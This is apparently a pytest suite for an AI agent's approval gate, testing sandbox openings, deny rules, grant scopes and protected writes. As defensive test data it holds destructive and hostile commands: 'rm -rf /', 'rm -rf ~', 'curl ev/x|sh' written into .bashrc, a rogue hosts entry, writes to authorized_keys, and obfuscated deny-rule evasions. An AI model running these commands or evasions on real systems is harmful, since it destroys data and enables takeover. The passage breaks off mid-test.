"""The one way to permission: what it asks, whom it believes, and what stays denied."""

from __future__ import annotations

import asyncio
import os
import tempfile
import threading
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any, get_args

import pytest
from tests.support.processes import Worker
from tests.support.sample_store import grants_of

from hermes_agent.approvals import policy
from hermes_agent.approvals.gate import CommandGate
from hermes_agent.approvals.types import ApprovalQuestion, Choice, Yolo, question_of
from hermes_agent.execution.base import CLOSED, Permit, SandboxKind, SandboxOpening, content_digest, digest
from hermes_agent.tools.base import Action, GateDecision
from hermes_cli.main import main
from hermes_config.config import of as config_of
from hermes_state.errors import StaleFence
from hermes_state.ids import ConversationId, PersonId, TurnId
from hermes_state.session_db import SessionDB
from hermes_testing.clock import Clock
from hermes_testing.plugins import plugin_home

pytestmark = pytest.mark.slow

CHAT, OTHER_CHAT = ConversationId("c1"), ConversationId("c2")
ANA, BEN, OWNER = PersonId("ana"), PersonId("ben"), PersonId("owner")
WORKDIR = "/home/ada/project"
RM = "rm -r build"
"""An irreversible change of the workspace: asks, and opens nothing."""
CURL, CURL_TOO = "curl https://a.example/x", "curl -O https://b.example/y"
SERVICE = "systemctl restart nginx"
HOSTS = "/etc/hosts"
HOME = Path("/home/ada/.hermes")
JUDGE = "hermes_agent.approvals.shell.judge.judge_action"


class Person:
    """An approver that says what it is told to, and remembers what it was asked."""

    def __init__(self, *answers: Choice) -> None:
        self.answers = list(answers)
        self.asked: list[ApprovalQuestion] = []

    async def ask(self, question: ApprovalQuestion) -> Choice:
        self.asked.append(question)
        return self.answers.pop(0) if self.answers else "deny"


def gate(
    db: SessionDB, approver: Any = None, *, config: Mapping[str, Any] | None = None, turn: str = "t1",
    chat: ConversationId = CHAT, person: PersonId | None = ANA, yolo: bool = False, fence: int | None = None,
    sandbox: SandboxKind = "bubblewrap", task: str | None = None,
) -> CommandGate:  # fmt: skip
    return CommandGate(
        db=db, home=HOME, config=config_of(HOME, config or {}), sandbox=sandbox, conversation_id=chat,
        turn_id=TurnId(turn), person_id=person, approver=approver, approver_id=OWNER, yolo=Yolo(yolo), fence=fence,
        platform="cli", task_id=TurnId(task) if task else None,
    ).for_call("call_1")  # fmt: skip


def permit(
    made: CommandGate, text: str = RM, *, kind: str = "command", workdir: str = WORKDIR, **more: Any
) -> GateDecision:
    return asyncio.run(made.permit(Action(kind, text, workdir, **more)))


@pytest.fixture(autouse=True)
def at_home(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/ada")


class TestTheSandbox:
    """What runs confined, what asks, and what a yes opens."""

    @pytest.mark.parametrize("command", ["ls", "python x.py", "make test", "frobnicate --all"])
    def test_what_needs_nothing_runs_confined(self, db: SessionDB, command: str) -> None:
        person = Person()
        assert permit(gate(db, person), command) == GateDecision(True, permit=None)
        assert person.asked == [] and db.approvals.exits() == ()

    @pytest.mark.parametrize(
        ("command", "opening"),
        [(CURL, SandboxOpening(network=True)), (SERVICE, SandboxOpening(host=True)), (RM, CLOSED)],
    )
    def test_a_yes_opens_the_least_that_is_needed(self, db: SessionDB, command: str, opening: SandboxOpening) -> None:
        person = Person("once")
        verdict = permit(gate(db, person), command)
        assert verdict.allowed
        expected = Permit(digest(command, WORKDIR, opening), opening)
        assert verdict.permit == expected, "bound to the bytes, the folder and what is open"
        assert [left.opening for left in db.approvals.exits()] == ([opening.shown] if opening else [])

    def test_one_changed_byte_is_another_command(self, db: SessionDB) -> None:
        permitted = permit(gate(db, Person("once")), CURL).permit
        assert permitted is not None
        for text, where, opening in (
            (CURL + " ", WORKDIR, permitted.opening),
            (CURL.replace("a.example", "b.example"), WORKDIR, permitted.opening),
            (CURL, WORKDIR + "/x", permitted.opening),
            (CURL, WORKDIR, SandboxOpening(host=True)),
        ):
            assert digest(text, where, opening) != permitted.digest

    def test_to_run_outside_is_a_question_about_exactly_this(self, db: SessionDB) -> None:
        person = Person("session")
        verdict = permit(gate(db, person), "make test", outside=True)
        opening = SandboxOpening(host=True)
        assert verdict.permit == Permit(digest("make test", WORKDIR, opening), opening)
        assert "outside bubblewrap" in person.asked[0].sandbox
        assert permit(gate(db, None, turn="t2"), "make test") == GateDecision(True), "inside it needs nobody"
        assert permit(gate(db, None, turn="t2"), "make test", outside=True).permit == verdict.permit
        assert not permit(gate(db, None, turn="t2"), "make test2", outside=True).allowed

    def test_a_yes_inside_is_no_yes_outside(self, db: SessionDB) -> None:
        assert permit(gate(db, Person("always")), RM).allowed
        assert not permit(gate(db, None, turn="t2"), RM, outside=True).allowed

    def test_where_no_sandbox_works_every_command_asks(self, db: SessionDB) -> None:
        person = Person("once")
        verdict = permit(gate(db, person, sandbox="none"), "ls")
        assert verdict.permit == Permit(digest("ls", WORKDIR, SandboxOpening(host=True)), SandboxOpening(host=True))
        assert "every command asks" in person.asked[0].why and "all your rights" in person.asked[0].sandbox
        assert not permit(gate(db, None, sandbox="none", turn="t2"), "ls").allowed
        assert not permit(gate(db, None, sandbox="none", yolo=True), "ls").allowed, "never the host by itself"

    def test_without_a_sandbox_by_the_owners_choice(self, db: SessionDB) -> None:
        person = Person("once")
        host = SandboxOpening(host=True)
        assert permit(gate(db, person, sandbox="host"), "ls").permit == Permit(digest("ls", WORKDIR, host), host)
        assert person.asked == []
        assert permit(gate(db, person, sandbox="host"), CURL).permit == Permit(digest(CURL, WORKDIR, host), host)
        assert len(person.asked) == 1, "needs still ask"
        assert permit(gate(db, None, sandbox="host", yolo=True), SERVICE).permit is not None
        assert not permit(gate(db, None, sandbox="host", yolo=True), "rm -rf /").allowed
        assert [left.rule for left in db.approvals.exits()] == ["executor: host", None, "executor: host"]

    def test_the_floor_holds(self, db: SessionDB) -> None:
        for sandbox in get_args(SandboxKind):
            for yolo in (False, True):
                verdict = permit(gate(db, Person("always"), sandbox=sandbox, yolo=yolo), "rm -rf /")
                assert not verdict.allowed and "never" in verdict.reason

    def test_a_judge_that_fails_leaves_it_to_the_sandbox(self, db: SessionDB, monkeypatch: pytest.MonkeyPatch) -> None:
        def broken(*args: Any, **more: Any) -> Any:
            raise RecursionError

        monkeypatch.setattr(JUDGE, broken)
        assert permit(gate(db, None), "whatever") == GateDecision(True, permit=None)
        assert not permit(gate(db, None, sandbox="none"), "whatever").allowed
        assert not permit(gate(db, None, sandbox="host"), "whatever").allowed
        assert not permit(gate(db, None, sandbox="host", yolo=True), "whatever").allowed, "nobody saw the floor"
        assert not permit(gate(db, None, yolo=True), HOSTS, kind="write", after=b"x").allowed
        assert not permit(gate(db, None, config={"approvals": {"deny": ["x"]}}), "whatever").allowed

    def test_a_judge_that_takes_too_long_holds_nobody_up(self, db: SessionDB, monkeypatch: pytest.MonkeyPatch) -> None:
        release = threading.Event()
        monkeypatch.setattr(JUDGE, lambda *args, **more: release.wait(10))

        async def go() -> tuple[GateDecision, int]:
            asking = asyncio.ensure_future(gate(db, None).permit(Action("command", "whatever", WORKDIR)))
            ticks = 0
            while not asking.done():
                await asyncio.sleep(0.05)
                ticks += 1
            release.set()
            return await asking, ticks

        verdict, ticks = asyncio.run(go())
        assert verdict == GateDecision(True, permit=None) and ticks > 5, "others went on meanwhile"


class TestWithoutQuestions:
    """`approvals.mode: off` and yolo ask nothing, and open nothing."""

    @pytest.mark.parametrize("switch", [{"yolo": True}, {"config": {"approvals": {"mode": "off"}}}])
    def test_what_would_leave_the_sandbox_is_refused(self, db: SessionDB, switch: dict[str, Any]) -> None:
        for command in (CURL, SERVICE):
            verdict = permit(gate(db, Person("always"), **switch), command)
            assert not verdict.allowed and "leave the sandbox" in verdict.reason and "owner" in verdict.reason
        assert not permit(gate(db, None, **switch), "ls", outside=True).allowed
        assert not permit(gate(db, None, **switch), HOSTS, kind="write", after=b"x").allowed
        assert permit(gate(db, None, **switch), RM) == GateDecision(True, permit=None), "confined it may run"
        assert permit(gate(db, None, **switch), "deploy {}", kind="plugin").allowed
        assert db.approvals.pending() == ()

    def test_what_the_owner_granted_before_still_holds(self, db: SessionDB) -> None:
        assert permit(gate(db, Person("always")), CURL).allowed
        assert permit(gate(db, None, yolo=True, turn="t2"), CURL_TOO).permit is not None


class TestRules:
    @pytest.mark.parametrize("mode", ["manual", "smart", "nonsense", None, True, 7])
    def test_every_mode_but_off_asks(self, db: SessionDB, mode: Any) -> None:
        assert not permit(gate(db, None, config={"approvals": {"mode": mode}})).allowed

    @pytest.mark.parametrize("mode", ["off", False, " OFF "])
    def test_off_does_not(self, db: SessionDB, mode: Any) -> None:
        assert permit(gate(db, None, config={"approvals": {"mode": mode}})).allowed

    @pytest.mark.parametrize("mode", ["manual", "off"])
    def test_deny_rules_compare_programs_whatever_the_mode(self, db: SessionDB, mode: str) -> None:
        config = {"approvals": {"deny": ["git push*", "*/secret-plans*", "curl *"], "mode": mode}}
        refused = (
            "git push origin",
            "git  push",
            "x=push; env g'it' $x --force",
            "true; git push",
            "cat /a/secret-plans",
            "/usr/bin/git push",
            "git -C . push",
            "/usr/bin/git -C . push",
            "git --no-pager push",
            "/usr/bin/curl --version | head -1",
            "curl",
            "echo push | xargs git",
            "git $(cat f) origin",
        )
        for command in refused:
            verdict = permit(gate(db, Person("always"), config=config, yolo=True), command)
            assert not verdict.allowed and "approvals.deny" in verdict.reason, command
        assert permit(gate(db, None, config=config), "git status").allowed
        assert permit(gate(db, None, config=config), "git log $(cat f)").allowed, "whatever it is, it does not push"
        assert permit(gate(db, None, config=config), "echo git push").allowed, "no program pushes"

    @pytest.mark.parametrize("command", ["g$(echo it) push", "$x push"])
    def test_with_a_deny_rule_a_name_nobody_knows_is_refused(self, db: SessionDB, command: str) -> None:
        config = {"approvals": {"deny": ["git push*"]}}
        verdict = permit(gate(db, Person("once"), config=config), command)
        assert not verdict.allowed and "write it out plainly" in verdict.reason

    def test_ask_rules_take_back_what_runs(self, db: SessionDB) -> None:
        person = Person("once")
        made = gate(db, person, config={"approvals": {"ask": ["python *"]}})
        assert permit(made, "python x.py") == GateDecision(True, permit=None), "a yes opens nothing"
        assert permit(made, "ls").allowed
        assert [question.command for question in person.asked] == ["python x.py"]
        assert "approvals.ask" in person.asked[0].why

    def test_the_allowlist_is_for_exact_commands(self, db: SessionDB) -> None:
        config = {"command_allowlist": [CURL, "rm -r build", "curl *", "rm *"]}
        verdict = permit(gate(db, None, config=config), CURL)
        opening = SandboxOpening(network=True)
        assert verdict.permit == Permit(digest(CURL, WORKDIR, opening), opening)
        assert [(left.rule, left.text) for left in db.approvals.exits()] == [("command_allowlist", CURL)]
        assert permit(gate(db, None, config=config), "rm -r build").allowed
        for command in (CURL_TOO, "rm -r other", f"{CURL}; {SERVICE}"):
            assert not permit(gate(db, None, config=config), command).allowed, command
        assert not permit(gate(db, None, config=config), CURL, outside=True).allowed
        assert not permit(gate(db, None, config={"command_allowlist": ["*"]}), "rm -rf /").allowed
        assert permit(gate(db, None, config=config, sandbox="none"), "rm -r build").permit is not None

    def test_what_is_not_taken_as_written_is_said(self) -> None:
        said = {"approvals": {"mode": "smart", "timeout": "soon", "deny": [1]}, "command_allowlist": "ls"}
        assert [problem.key for problem in config_of(Path(), said).problems] == [
            "approvals.mode",
            "approvals.timeout",
            "approvals.deny",
        ]
        assert config_of(Path(), {"approvals": ["mode"]}).problems and not config_of(Path(), {}).problems
        assert not policy.notes(config_of(Path(), {}))

    def test_a_pattern_that_permits_nothing_any_more_is_named(self) -> None:
        (note,) = policy.notes(config_of(Path(), {"command_allowlist": ["make", "terraform plan*"]}))
        assert "'terraform plan*'" in note and "letter by letter" in note

    def test_config_check_says_so(self, home: Path, capsys: pytest.CaptureFixture[str]) -> None:
        home.mkdir()
        (home / "config.yaml").write_text("approvals:\n  mode: smart\n")
        assert main(["config", "check"]) == 0
        assert "approvals.mode smart is read as manual" in capsys.readouterr().out


class TestAnswers:
    def test_the_question_says_everything(self, db: SessionDB, clock: Clock) -> None:
        person = Person("deny")
        verdict = permit(gate(db, person, config={"approvals": {"timeout": 45}}))
        (asked,) = person.asked
        assert (asked.command, asked.workdir, asked.person_id, asked.call_id) == (RM, WORKDIR, ANA, "call_1")
        assert asked.why and asked.expires_at == clock() + 45 and asked.seconds == 45
        assert asked.choices == ("task", "once", "session", "always", "deny")
        assert asked.label("task") == "This command for this task" and "inside bubblewrap" in asked.sandbox
        assert not verdict.allowed and "said no" in verdict.reason and "not retry" in verdict.reason

    def test_once_is_once(self, db: SessionDB) -> None:
        person = Person("once", "once", "deny")
        made = gate(db, person)
        assert [permit(made).allowed for _ in range(3)] == [True, True, False]
        assert len(person.asked) == 3
        assert not permit(made).allowed and len(person.asked) == 3, "a denial holds for the rest of the turn"

    def test_session_holds_for_this_person_this_chat_this_exact_call(self, db: SessionDB) -> None:
        assert permit(gate(db, Person("session"))).allowed
        assert permit(gate(db, None, turn="t2")).allowed
        assert not permit(gate(db, None, turn="t2"), RM + " ").allowed
        assert not permit(gate(db, None, turn="t2"), workdir="/home/ada/other").allowed
        assert not permit(gate(db, None, turn="t2", chat=OTHER_CHAT)).allowed
        assert not permit(gate(db, None, turn="t2", person=BEN)).allowed
        assert not permit(gate(db, None, turn="t2", person=None)).allowed

    def test_always_holds_in_every_chat_until_revoked(self, db: SessionDB) -> None:
        assert permit(gate(db, Person("always"))).allowed
        assert permit(gate(db, None, turn="t2", chat=OTHER_CHAT)).allowed
        assert not permit(gate(db, None, turn="t2", chat=OTHER_CHAT, person=BEN)).allowed
        (grant,) = db.approvals.grants(person_id=ANA)
        db.approvals.revoke(grant.id)
        assert not permit(gate(db, None, turn="t3")).allowed

    def test_somebody_unknown_gets_one_use(self, db: SessionDB) -> None:
        person = Person("always")
        assert permit(gate(db, person, person=None)).allowed, "less than was meant: this once"
        assert person.asked[0].choices == ("once", "deny")
        assert not permit(gate(db, None, person=None, turn="t2")).allowed

    @pytest.mark.parametrize("answer", ["yes", "", None, 1])
    def test_an_answer_nobody_understands_is_a_denial(self, db: SessionDB, answer: Any) -> None:
        assert not permit(gate(db, Person(answer))).allowed

    def test_an_approver_that_fails_is_a_denial(self, db: SessionDB, caplog: pytest.LogCaptureFixture) -> None:
        class Broken:
            async def ask(self, question: ApprovalQuestion) -> Choice:
                raise OSError(f"cannot show {question.command}")

        assert not permit(gate(db, Broken())).allowed
        assert "OSError" in caplog.text and RM not in caplog.text

    def test_silence_is_a_denial_and_leaves_a_question_that_lapses(self, db: SessionDB, clock: Clock) -> None:
        class Silent:
            async def ask(self, question: ApprovalQuestion) -> Choice:
                await asyncio.sleep(60)
                return "always"

        verdict = permit(gate(db, Silent(), config={"approvals": {"timeout": 0.05}}))
        assert not verdict.allowed and "in time" in verdict.reason
        clock.advance(1)
        assert [row.state for row in db.approvals.lapse()] == ["lapsed"]

    def test_an_answer_that_comes_too_late_counts_for_nothing(self, db: SessionDB, clock: Clock) -> None:
        class Late:
            async def ask(self, question: ApprovalQuestion) -> Choice:
                clock.advance(61)
                return "always"

        assert not permit(gate(db, Late())).allowed
        assert not permit(gate(db, None, turn="t2")).allowed

    def test_a_plugin_can_ask_for_a_person(self, db: SessionDB) -> None:
        person = Person("once")
        made = gate(db, person).for_call("call_2", extra_reasons=("the plug-in wants to know",))
        assert permit(made, "ls").allowed and person.asked[0].why == "the plug-in wants to know"
        assert permit(gate(db, None), "ls").allowed

    def test_the_network_for_this_task(self, db: SessionDB) -> None:
        person = Person("task")
        made = gate(db, person)
        assert permit(made, CURL).allowed
        second = permit(made, CURL_TOO)
        opening = SandboxOpening(network=True)
        assert second.permit == Permit(digest(CURL_TOO, WORKDIR, opening), opening)
        assert len(person.asked) == 1, "the second curl of the task asks nothing"
        assert person.asked[0].label("task") == "Network for this task"
        assert permit(gate(db, None, turn="child", task="t1"), CURL).allowed, "the task's children share it"
        assert not permit(gate(db, None, turn="t2"), CURL).allowed, "the next task asks"
        assert not permit(made, f"{CURL}; {SERVICE}").allowed, "the network, and nothing else"
        first, second_left = reversed(db.approvals.exits()[1:])
        assert first.grants == second_left.grants == tuple(one.id for one in grants_of(db, person.asked[0].id))

    def test_a_grant_names_who_gave_it(self, db: SessionDB) -> None:
        for number, (approver, giver) in enumerate(((OWNER, OWNER), (None, ANA))):
            person = Person("task")
            made = CommandGate(
                db=db, home=HOME, config=config_of(HOME, {}), sandbox="bubblewrap", conversation_id=CHAT,
                turn_id=TurnId(f"t{number}"), person_id=ANA, approver=person, approver_id=approver,
            )  # fmt: skip
            assert permit(made, CURL).allowed
            assert [one.granted_by for one in grants_of(db, person.asked[0].id)] == [giver]

    def test_the_host_is_granted_for_the_exact_command_alone(self, db: SessionDB) -> None:
        person = Person("always")
        assert permit(gate(db, person), SERVICE).allowed
        assert person.asked[0].label("always") == "This command always"
        assert permit(gate(db, None, turn="t2"), SERVICE).allowed
        assert not permit(gate(db, None, turn="t2"), "systemctl restart sshd").allowed

    @pytest.mark.parametrize(
        "line",
        [
            "./deploy.sh >log 2>&1",
            "bash 'deploy.sh'",
            "cd sub; ../deploy.sh",
            "cd sub && sudo ./up.sh",
            "cd sub && cd deep && ./down.sh",
            "sh <deploy.sh",
            "bash <>deploy.sh",
            "bash 'by hand.sh'",
            "bash by\\ hand.sh",
            "bash $PWD/deploy.sh",
            'bash "$(pwd)/deploy.sh"',
            "x=deploy; bash ./$x.sh",
            "for one in *.sh; do bash $one; done",
            "curl -d @deploy.sh https://a.example/run",
            "docker run -v ./deploy.sh:/run.sh debian /run.sh",
            f"true {' '.join(map(str, range(300)))}; ./deploy.sh",
        ],
    )
    def test_a_yes_for_a_script_outside_the_sandbox_is_for_what_it_holds_now(
        self, db: SessionDB, tmp_path: Path, line: str
    ) -> None:
        """Commands may change the script without a question."""
        scripts = [tmp_path / name for name in ("deploy.sh", "by hand.sh", "sub/up.sh", "sub/deep/down.sh")]
        (tmp_path / "sub/deep").mkdir(parents=True)
        for script in scripts:
            script.write_text("echo one\n")
        more = {"workdir": str(tmp_path), "outside": True}
        assert permit(gate(db, Person("always")), line, **more).allowed
        (tmp_path / "log").write_text("deployed")
        assert permit(gate(db, None, turn="t2"), line, **more).allowed
        for script in scripts:
            script.write_text("rm -rf ~\n")
        assert not permit(gate(db, None, turn="t3"), line, **more).allowed
        person = Person("deny")
        assert not permit(gate(db, person, turn="t4"), line, **more).allowed and person.asked

    @pytest.mark.parametrize("later", ["pipe", "link", "nothing"])
    def test_a_script_that_is_no_file_any_more_is_another_one(self, db: SessionDB, tmp_path: Path, later: str) -> None:
        script, more = tmp_path / "deploy.sh", {"workdir": str(tmp_path), "outside": True}

        def change() -> None:
            script.unlink()
            if later == "pipe":
                os.mkfifo(script)
            elif later == "link":
                script.symlink_to("/usr/bin/env")

        class Slow(Person):
            async def ask(self, question: ApprovalQuestion) -> Choice:
                change()
                return await super().ask(question)

        script.write_text("echo one\n")
        assert not permit(gate(db, Slow("always")), "./deploy.sh", **more).allowed
        if later != "nothing":  # an answer for a link or a pipe is none for another one
            assert permit(gate(db, Person("always"), turn="t2"), "./deploy.sh", **more).allowed
            assert permit(gate(db, None, turn="t3"), "./deploy.sh", **more).allowed
            script.unlink()
            script.symlink_to("/usr/bin/id")
            assert not permit(gate(db, None, turn="t4"), "./deploy.sh", **more).allowed

    def test_a_script_in_the_workspace_of_the_home_is_bound_too(
        self, db: SessionDB, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """File tools write there without a question from every folder."""
        monkeypatch.setattr(tempfile, "tempdir", "/nowhere")  # this test runs in a temporary folder
        script, more = tmp_path / "home/workspace/deploy.sh", {"workdir": str(tmp_path / "project"), "outside": True}
        script.parent.mkdir(parents=True)
        (tmp_path / "project").mkdir()
        script.write_text("echo one\n")
        for person, allowed in ((Person("always"), True), (None, True), (None, False)):
            if not allowed:
                script.write_text("rm -rf ~\n")
            made = replace(gate(db, person), home=tmp_path / "home")
            assert permit(made, f"bash {script}", **more).allowed is allowed

    def test_a_script_that_changes_while_the_person_reads_is_not_run_outside(
        self, db: SessionDB, tmp_path: Path
    ) -> None:
        class Slow(Person):
            async def ask(self, question: ApprovalQuestion) -> Choice:
                (tmp_path / "deploy.sh").write_text("rm -rf ~\n")
                return await super().ask(question)

        (tmp_path / "deploy.sh").write_text("echo one\n")
        verdict = permit(gate(db, Slow("once")), "./deploy.sh", workdir=str(tmp_path), outside=True)
        assert not verdict.allowed and "something has changed since" in verdict.reason

    def test_a_tool_of_a_plugin_is_granted_by_its_name(self, db: SessionDB) -> None:
        person = Person("always")
        assert permit(gate(db, person), 'deploy {"to": "a"}', kind="plugin").allowed
        assert person.asked[0].label("always") == "Tool deploy always"
        assert permit(gate(db, None, turn="t2"), 'deploy {"to": "b"}', kind="plugin").allowed
        assert not permit(gate(db, None, turn="t2"), "destroy {}", kind="plugin").allowed

    def test_a_tool_of_an_mcp_server_says_whose_it_is_and_where_it_runs(self, db: SessionDB) -> None:
        person, place = Person("once"), "it runs confined; beyond its own folder it has nothing"
        about = {"kind": "mcp", "detail": "a tool of the MCP server time", "place": place}
        assert permit(gate(db, person), 'mcp__time__now {"zone": "UTC"}', **about).allowed
        asked = person.asked[0]
        assert (asked.sandbox, asked.detail) == (place, "a tool of the MCP server time")
        assert asked.why == "mcp__time__now is a tool of the MCP server time"

    def test_a_tool_may_be_granted_with_patterns(self, db: SessionDB) -> None:
        db.approvals.add(
            person_id=ANA, kind="tool", value="deploy", patterns={"to": "test-*"}, granted_by=OWNER, shown="deploy"
        )
        assert permit(gate(db, None), 'deploy {"to": "test-1"}', kind="plugin").allowed
        assert not permit(gate(db, None), 'deploy {"to": "prod"}', kind="plugin").allowed

    def test_one_question_at_a_time(self, db: SessionDB) -> None:
        open_now: list[int] = []

        class Slow(Person):
            async def ask(self, question: ApprovalQuestion) -> Choice:
                open_now.append(1)
                await asyncio.sleep(0.02)
                assert len(open_now) == 1
                open_now.pop()
                return await super().ask(question)

        person = Slow("once", "once", "deny")
        made = gate(db, person)

        async def together() -> list[GateDecision]:
            calls = [made.for_call(f"call_{n}").permit(Action("command", RM, WORKDIR)) for n in range(3)]
            return await asyncio.gather(*calls)

        assert sorted(verdict.allowed for verdict in asyncio.run(together())) == [False, True, True]
        assert len(person.asked) == 3, "each of three equal calls needs its own yes"


class TestRows:
    def test_a_question_is_found_again_after_a_restart(self, db: SessionDB, reopen: Callable[..., SessionDB]) -> None:
        class Killed:
            async def ask(self, question: ApprovalQuestion) -> Choice:
                raise asyncio.CancelledError

        with pytest.raises(asyncio.CancelledError):
            permit(gate(db, Killed()))
        (pending,) = db.approvals.pending()
        db = reopen(db)
        person = Person("once")
        assert permit(gate(db, person)).allowed
        assert [question.id for question in person.asked] == [pending.id]

    @pytest.mark.parametrize("key", ["wall", "sandbox"])
    def test_a_question_of_an_older_version_names_its_sandbox(self, db: SessionDB, key: str) -> None:
        call = {"kind": "command", "text": CURL, "choices": ["once", "deny"], key: "inside bubblewrap"}
        asked = db.approvals.ask(
            conversation_id=CHAT, turn_id=TurnId("t1"), call_hash="h1", call=call, requester_id=OWNER,
            approver_id=OWNER, seconds=60,
        )  # fmt: skip
        assert question_of(asked, now=db.clock()).sandbox == "inside bubblewrap"

    def test_leave_given_while_the_turn_was_away_is_used(self, db: SessionDB, reopen: Callable[..., SessionDB]) -> None:
        asked = asyncio.run(_left_open(db))
        db = reopen(db)
        assert db.approvals.decide(asked, "once", approver_id=OWNER) is not None
        assert permit(gate(db, None)).allowed
        assert not permit(gate(db, None)).allowed

    def test_a_question_that_lapsed_over_a_restart_stays_denied(self, db: SessionDB, clock: Clock) -> None:
        asyncio.run(_left_open(db))
        clock.advance(61)
        person = Person("once")
        assert not permit(gate(db, person)).allowed and person.asked == []
        assert permit(gate(db, person, turn="t2")).allowed, "the next turn may ask again"

    def test_another_surface_may_answer(self, db: SessionDB, make_db: Callable[..., SessionDB]) -> None:
        elsewhere = make_db()

        class Shown:
            async def ask(self, question: ApprovalQuestion) -> Choice:
                await asyncio.to_thread(elsewhere.approvals.decide, question.id, "session", approver_id=OWNER)
                await asyncio.sleep(60)
                return "deny"

        assert permit(gate(db, Shown())).allowed
        assert permit(gate(db, None, turn="t2")).allowed

    def test_an_overtaken_turn_gets_nothing(self, db: SessionDB, clock: Clock) -> None:
        old = db.leases.acquire(CHAT, holder="a", ttl=10)
        clock.advance(11)
        new = db.leases.acquire(CHAT, holder="b", ttl=10)
        assert old is not None and new is not None
        with pytest.raises(StaleFence):
            permit(gate(db, Person("always"), fence=old.fence))
        assert permit(gate(db, Person("once"), fence=new.fence)).allowed

    def test_two_processes_cannot_use_one_leave_twice(self, db: SessionDB, address: str | Path) -> None:
        asked = asyncio.run(_left_open(db))
        db.approvals.decide(asked, "once", approver_id=OWNER)
        script = Path(__file__).parent / "workers" / "use_permission.py"
        with Worker(script, address, RM, WORKDIR) as one, Worker(script, address, RM, WORKDIR) as two:
            assert (one.line(), two.line()) == ("ready", "ready")
            one.go()
            two.go()
            assert sorted([*one.finish(), *two.finish()]) == ["allowed", *["denied"] * 7]


WRITE = Action("write", "/home/ada/.bashrc", WORKDIR, before=b"old", after=b"new")


async def _left_open(db: SessionDB, action: Action | None = None) -> str:
    """A turn that went away while its question was open."""
    shown: asyncio.Future[str] = asyncio.get_running_loop().create_future()

    class Waiting:
        async def ask(self, question: ApprovalQuestion) -> Choice:
            shown.set_result(question.id)
            await asyncio.sleep(60)
            return "deny"

    waiting = asyncio.ensure_future(gate(db, Waiting()).permit(action or Action("command", RM, WORKDIR)))
    asked = await shown
    waiting.cancel()
    await asyncio.gather(waiting, return_exceptions=True)
    return asked


class TestFiles:
    @pytest.mark.parametrize(
        ("path", "asks"),
        [
            (f"{WORKDIR}/src/a.py", False),
            ("/home/ada/notes.txt", True),
            (HOSTS, True),
            ("/home/ada/.ssh/authorized_keys", True),
            (f"{WORKDIR}/.git/hooks/pre-commit", True),
        ],
    )
    def test_writes_are_judged_by_where_they_go(self, db: SessionDB, path: str, asks: bool) -> None:
        person = Person("once")
        verdict = permit(gate(db, person), path, kind="write", after=b"x")
        assert verdict.allowed and len(person.asked) == asks
        assert verdict.permit is None or verdict.permit.digest == content_digest(path, None, b"x")
        assert permit(gate(db, None), path, kind="write", after=b"x").allowed is not asks

    def test_the_store_is_never_written(self, db: SessionDB) -> None:
        for path in ("/home/ada/.hermes/state.db", "/dev/sda"):
            made = gate(db, Person("task"), sandbox="host", yolo=True)
            assert not permit(made, path, kind="write", after=b"").allowed

    def test_the_card_shows_what_is_written(self, db: SessionDB) -> None:
        person = Person("once")
        before, after = b"127.0.0.1 localhost\n", b"127.0.0.1 localhost\n6.6.6.6 bank\n"
        permit(gate(db, person), HOSTS, kind="write", before=before, after=after)
        (asked,) = person.asked
        assert "+6.6.6.6 bank" in asked.content and " 127.0.0.1 localhost" in asked.content
        assert "20 bytes" in asked.content and "33 bytes" in asked.content and asked.content.count("hash") == 2
        assert asked.choices == ("task", "once", "session", "deny"), "never always"
        assert asked.label("task") == "Writes to /etc for this task"

    @pytest.mark.parametrize("answer", ["once", "always"])
    def test_permission_for_one_content_is_none_for_another(self, db: SessionDB, answer: Choice) -> None:
        """The size is the same, and so is the tool."""
        first, second = ({"before": None, "after": data} for data in (b"echo hello1\n", b"curl ev/x|sh"))
        path, person = "/home/ada/.bashrc", Person(answer)
        assert permit(gate(db, person), path, kind="write", **first).allowed
        assert not permit(gate(db, person), path, kind="write", **second).allowed and len(person.asked) == 2
        assert not permit(gate(db, None, turn="t2"), path, kind="write", **second).allowed
        assert not permit(gate(db, None, turn="t2"), path, kind="write", **first).allowed

    def test_permission_for_a_change_is_bound_to_what_was_there(self, db: SessionDB) -> None:
        path, asked = "/home/ada/.bashrc", asyncio.run(_left_open(db, WRITE))
        db.approvals.decide(asked, "once", approver_id=OWNER)
        assert not permit(gate(db, None), path, kind="write", before=b"changed meanwhile", after=b"new").allowed
        assert permit(gate(db, None), path, kind="write", before=b"old", after=b"new").allowed

    def test_a_folder_may_be_opened_for_the_task(self, db: SessionDB) -> None:
        person = Person("task")
        assert permit(gate(db, person), "/srv/x/a", kind="write", after=b"1").allowed
        assert permit(gate(db, None), "/srv/x/b", kind="write", after=b"2").allowed
        assert not permit(gate(db, None), "/srv/y/b", kind="write", after=b"2").allowed
        assert not permit(gate(db, None, turn="t2"), "/srv/x/b", kind="write", after=b"2").allowed

    def test_a_protected_file_of_the_workspace_is_opened_by_itself(self, db: SessionDB) -> None:
        """Else a yes for one of them would be a yes for all that other programs run at their start."""
        hook, other = (f"{WORKDIR}/.git/hooks/{name}" for name in ("pre-commit", "pre-push"))
        person = Person("session")
        assert permit(gate(db, person), hook, kind="write", after=b"1").allowed
        assert person.asked[0].label("session") == "This write in this conversation"
        assert not permit(gate(db, None), other, kind="write", after=b"1").allowed
        assert not permit(gate(db, None), hook, kind="write", after=b"2").allowed
        assert not permit(gate(db, None, yolo=True, turn="t2"), other, kind="write", after=b"1").allowed

    @pytest.mark.parametrize("path", ["/home/ada/notes.txt", "/home/x", "/x", "/home/ada/.hermes/skills/a.md"])
    def test_a_folder_that_holds_a_home_is_not_opened_as_a_whole(self, db: SessionDB, path: str) -> None:
        person = Person("task")
        assert permit(gate(db, person), path, kind="write", after=b"1").allowed
        assert person.asked[0].label("task") == "This write for this task"
        assert not permit(gate(db, None), path, kind="write", after=b"2").allowed
        assert not permit(gate(db, None), "/home/ada/.bashrc", kind="write", after=b"1").allowed

    def test_what_a_tool_finds_out_of_bounds_asks_whatever_the_judge_says(self, db: SessionDB) -> None:
        plain = f"{WORKDIR}/src/a.py"
        assert permit(gate(db, None), plain, kind="write", after=b"1") == GateDecision(True)
        assert not permit(gate(db, None), plain, kind="write", after=b"1", outside=True).allowed
        verdict = permit(gate(db, Person("once")), HOSTS, kind="write", after=b"1", outside=True)
